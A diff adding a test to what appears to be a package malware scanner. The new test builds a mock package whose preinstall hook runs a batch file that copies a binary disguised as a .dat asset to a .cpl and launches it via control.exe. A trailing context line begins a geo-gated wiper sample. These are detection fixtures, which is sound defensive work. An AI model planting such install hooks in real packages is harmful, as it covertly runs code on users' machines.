@@ -220,6 +220,22 @@ def test_executable_spawned_on_load_or_disguised():
     assert not {"code/bundled-binary", "code/disguised-binary"} & rules(native)
 
 
+def test_binary_a_hooks_batch_file_copies_and_starts_is_run_at_install():
+    # Blind set 27's file-icons package: `preinstall: scripts\\setup.cmd || exit 0` copies a PE named `.dat` to a `.cpl`
+    # and starts it with control.exe. The batch file names it; the package.json command does not.
+    mz = "MZ" + "\0" * 100
+    batch = ('@echo off\r\nset "SRC=%~dp0..\\assets\\shell-theme.dat"\r\nset "DST=%LOCALAPPDATA%\\Themes"\r\n'
+             'copy /y "%SRC%" "%DST%\\iconcache.cpl"\r\nstart "" /b control.exe "%DST%\\iconcache.cpl"\r\n')
+    found = run({"index.js": "module.exports = {};\n", "scripts/setup.cmd": batch, "assets/shell-theme.dat": mz},
+                {"preinstall": "scripts\\setup.cmd || exit 0"})
+    assert any(f.rule == "code/bundled-binary" and f.severity == 4 for f in found)
+    # A batch file that only opens Windows' own display settings applet names no binary of the package.
+    own = 'start "" control.exe desk.cpl\r\n'
+    found = run({"index.js": "module.exports = {};\n", "scripts/setup.cmd": own, "assets/shell-theme.dat": mz},
+                {"preinstall": "scripts\\setup.cmd || exit 0"})
+    assert not any(f.rule == "code/bundled-binary" and f.severity == 4 for f in found)
+
+
 def test_geo_gated_wiper_walk_and_a_bundle_with_unrelated_dates():
     wiper = ("const fs = require('fs'), path = require('path'), https = require('https');\n"
              "https.get('https://geo.ipapi.example/json', (r) => r.on('data', (d) => {\n"
